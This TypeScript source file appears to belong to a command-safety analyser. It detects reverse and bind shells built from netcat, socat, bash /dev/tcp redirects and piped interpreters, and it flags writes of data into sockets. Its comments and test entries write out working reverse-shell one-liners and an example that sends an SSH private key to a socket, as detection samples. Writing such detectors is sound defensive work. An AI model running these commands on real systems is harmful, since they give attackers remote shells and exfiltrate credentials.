// Reverse and bind shells (SPEC §6.5): a shell whose input is a network
// socket runs whatever the far end types — `execute × remote_code` with
// `via: "reverse shell"` (it connects out) or `"bind shell"` (it listens).
//
// | form | example |
// |---|---|
// | netcat running a program on the connection | `nc -e /bin/sh h 4444`, `nc -c sh h 4444`, `ncat --exec|--sh-exec|--lua-exec …`, `nc -lvp 4444 -e /bin/bash` |
// | socat joining a socket to a program | `socat TCP:h:4444 EXEC:'bash -li',pty`, `socat TCP-LISTEN:4444 SYSTEM:sh` |
// | bash's `/dev/tcp`, `/dev/udp` as a shell's stdin/stdout | `bash -i >& /dev/tcp/h/4444 0>&1`, `sh -i 5<>/dev/tcp/h/4444 0<&5 1>&5`, `exec 196<>/dev/tcp/h/4444; sh <&196 >&196` |
// | a shell in a pipeline with a socket client | `nc h 4444 \| sh`, `telnet h 80 \| /bin/sh \| telnet h 81`, `cat /tmp/f \| sh -i 2>&1 \| nc h 4444 >/tmp/f` |
//
// A plain redirect to `/dev/tcp/h/p` from another program (`cat f >
// /dev/tcp/h/p`) sends what that program reads, like `nc` (send ×
// class). Inline code (`python -c 'socket…; pty.spawn("/bin/sh")'`) is read
// by effects/inline-code.ts with the same verdict.
import { has, parseArgs, type OptionSpec } from "../programs/options.js";
import { interpreterOf, programSource } from "../programs/interpreters.js";
import { classifyUrl } from "../urls.js";
import { attrs, targetText, type Ctx, type SharedState } from "./common.js";
import { entry, handlerTable, type Handler, type ProgramEntry } from "./entries.js";
import { stdinClasses } from "./flow.js";

/** `/dev/tcp/HOST/PORT`, `/dev/udp/HOST/PORT`: bash opens a socket, not a file. */
export const SHELL_SOCKET = /^\/dev\/(tcp|udp)\/([^/]+)\/([^/]+)$/;

/** Programs that open a plain socket to a host and pass bytes through. */
const NETCATS = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "netcat.traditional", "netcat-traditional", "busybox-nc"];
const SOCKET_CLIENTS = new Set([...NETCATS, "telnet", "socat", "openssl", "cryptcat", "pwncat"]);

function remote(ctx: Ctx, via: "reverse shell" | "bind shell", target: string): void {
  ctx.out.effect("execute", "remote_code", attrs(ctx, { target: targetText(target), via }));
}

// ── netcat ───────────────────────────────────────────────────────────────

const NC_SPEC: OptionSpec = {
  shortValue: "ecIiOpqsTwxXbmMPgGV",
  longValue: ["exec", "sh-exec", "lua-exec", "proxy", "proxy-type", "proxy-auth", "source", "source-port", "wait", "idle-timeout", "output", "hex-dump", "append-output", "max-conns", "allow", "allowfile", "deny", "denyfile", "ssl-cert", "ssl-key", "ssl-trustfile", "ssl-ciphers", "ssl-servername", "ssl-alpn", "delay", "send-only"],
  aliases: { e: "exec", c: "sh-exec", l: "listen" },
};

/** `nc -e PROG` / `-c CMD` / ncat `--exec|--sh-exec|--lua-exec`: the connection is the program's stdin and stdout. */
function netcat(ctx: Ctx): void {
  const p = parseArgs(ctx.args, NC_SPEC);
  const run = p.flags.find((f) => (f.name === "exec" || f.name === "sh-exec" || f.name === "lua-exec") && f.value !== null);
  if (!run) return;
  // The socket is the target: the host and port operands (`nc -e sh h 4444` → `h 4444`), or the listening port.
  const socket = p.operands.map((o) => o.value).join(" ") || (p.flags.find((f) => f.name === "p")?.value ?? run.value!);
  remote(ctx, has(p, "listen") ? "bind shell" : "reverse shell", socket);
}

// ── socat ────────────────────────────────────────────────────────────────

const SOCAT_PROGRAM = /^(exec|system):/i;
const SOCAT_NETWORK = /^(tcp|tcp4|tcp6|tcp-connect|tcp4-connect|tcp6-connect|tcp-listen|tcp4-listen|tcp6-listen|tcp-l|udp|udp4|udp6|udp-connect|udp-listen|udp-l|udp-sendto|udp-recvfrom|udp-datagram|ssl|ssl-l|openssl|openssl-connect|openssl-listen|sctp|sctp-connect|sctp-listen|dccp-connect|dccp-listen|socks|socks4|socks4a|socks5|socks5-connect|proxy|proxy-connect|vsock-connect|vsock-listen)[:,]/i;

/** socat ADDRESS ADDRESS: a network address joined to `EXEC:`/`SYSTEM:` gives the far end that program. */
function socat(ctx: Ctx): void {
  const p = parseArgs(ctx.args, { shortValue: "dDhvVxlLT", longValue: [] });
  const addrs = p.operands.map((o) => o.value);
  const program = addrs.find((a) => SOCAT_PROGRAM.test(a));
  const network = addrs.find((a) => SOCAT_NETWORK.test(a));
  if (program && network) remote(ctx, /^[a-z0-9]*-l(isten)?[:,]/i.test(network) ? "bind shell" : "reverse shell", network);
}

// ── /dev/tcp and pipelines ───────────────────────────────────────────────

/** Socket file descriptors opened by an earlier `exec N<>/dev/tcp/…` in the same text. */
const SOCKET_FDS = new WeakMap<SharedState, Set<string>>();

/**
 * tree-sitter-bash reads the `0` of `0>&1` / `0</tmp/f` after other words as
 * an argument (`bash -i >& /dev/tcp/h/p 0>&1` has argv `-i 0`): a bare digit
 * that the command's text shows glued to a redirection is that fd, not a script.
 */
function withoutStrayFds(ctx: Ctx): Ctx["args"] {
  return ctx.args.filter((a) => !(/^\d$/.test(a.raw) && new RegExp(`(^|\\s)${a.raw}[<>]`).test(ctx.pc.cmd.raw)));
}

/** An interpreter that would run whatever arrives on its stdin (`sh`, `bash -i`, `python -`). */
function runsStdin(ctx: Ctx): boolean {
  const i = interpreterOf(ctx.program);
  if (i === null || i.family === "invoke-expression") return false;
  const args = withoutStrayFds(ctx);
  if (programSource(ctx.program, args)?.kind === "stdin") return true;
  return i.family === "shell" && args.some((a) => /^-[a-z]*i[a-z]*$/.test(a.value) && !a.value.includes("c"));
}

/** The commands of the pipeline around `index`: upstream (what feeds it) and downstream (what it feeds). */
function pipelineNeighbours(ctx: Ctx): { up: number[]; down: number[] } {
  const cmds = ctx.analysis.commands;
  const up: number[] = [];
  for (let i = ctx.index, guard = 0; guard < 64; guard++) {
    const s = cmds[i]?.stdin;
    if (!s || s.kind !== "pipe" || s.upstream >= i) break;
    up.push((i = s.upstream));
  }
  const down: number[] = [];
  for (let i = ctx.index, guard = 0; guard < 64; guard++) {
    const next = cmds.findIndex((c, j) => j > i && c.stdin?.kind === "pipe" && c.stdin.upstream === i);
    if (next < 0) break;
    down.push((i = next));
  }
  return { up, down };
}

/** stdin the shell analysis could read as a literal (a heredoc, `echo '…' |`): a script, not a far end. */
function literalStdin(ctx: Ctx): boolean {
  const s = ctx.pc.stdin;
  if (!s) return false;
  if (s.kind === "heredoc" || s.kind === "herestring") return s.text !== null;
  if (s.kind === "pipe") return ["echo", "printf"].includes(ctx.analysis.commands[s.upstream]?.cmd.program ?? "");
  return false;
}

/** Every command: `/dev/tcp` redirects, socket fds, and interpreters wired to a socket client. */
export function shellSockets(ctx: Ctx): void {
  let fds = SOCKET_FDS.get(ctx.state);
  let socket: string | null = null;
  for (const r of ctx.pc.redirects) {
    if (r.kind !== "file") continue;
    const m = SHELL_SOCKET.exec(r.target.value.trim());
    if (!m) continue;
    socket = r.target.value.trim();
    const port = /^\d+$/.test(m[3]) ? `:${m[3]}` : "";
    const u = classifyUrl(`${m[1]}://${m[2].includes(":") ? `[${m[2]}]` : m[2]}${port}`);
    ctx.out.url(u ? { ...u, value: socket } : null);
    const fd = /^(\d+)/.exec(r.op)?.[1];
    if (fd !== undefined) {
      if (!fds) SOCKET_FDS.set(ctx.state, (fds = new Set()));
      fds.add(fd);
    }
  }
  const dupFromSocket = ctx.pc.redirects.some((r) => r.kind === "dup" && /^[0-2]?[<>]&$/.test(r.op) && fds?.has(r.target.value.replace(/-$/, "")));
  if (runsStdin(ctx)) {
    if (socket !== null || dupFromSocket) return remote(ctx, "reverse shell", socket ?? "a socket opened earlier");
    const { up, down } = pipelineNeighbours(ctx);
    const client = (i: number) => SOCKET_CLIENTS.has(ctx.analysis.commands[i]!.cmd.program);
    const from = up.find(client) ?? (literalStdin(ctx) ? undefined : down.find(client));
    // The socket client's operands (`nc -v h 4444 | sh` → `h 4444`).
    if (from !== undefined) return remote(ctx, "reverse shell", ctx.analysis.commands[from]!.cmd.argv.filter((w) => !w.startsWith("-")).join(" "));
    return;
  }
  // Any other program writing into a socket sends what it reads (`cat ~/.ssh/id_rsa > /dev/tcp/h/p`).
  if (socket !== null) {
    const classes = [...(ctx.state.reads.get(ctx.index) ?? []), ...stdinClasses(ctx)];
    for (const c of new Set(classes)) ctx.out.effect("send", c, attrs(ctx, { target: targetText(socket) }));
  }
}

/** netcat and socat joining a socket to a program; a plain connection or listener runs nothing. */
export const REVERSE_SHELL_PROGRAMS: readonly ProgramEntry[] = [
  entry(NETCATS, netcat, [
    ["nc -e /bin/sh 10.0.0.1 4444", "execute remote_code"],
    ["ncat --exec /bin/bash 10.0.0.1 4444", "execute remote_code"],
    ["nc -lvp 4444 -e /bin/bash", "execute remote_code"],
    ["nc example.com 80", ""],
    ["nc -l 8080", ""],
  ]),
  entry(["socat"], socat, [["socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "execute remote_code"], ["socat TCP-LISTEN:4444 SYSTEM:sh", "execute remote_code"], ["socat - TCP:example.com:80", ""]]),
];

export const REVERSE_SHELL_HANDLERS: Record<string, Handler> = handlerTable(REVERSE_SHELL_PROGRAMS);
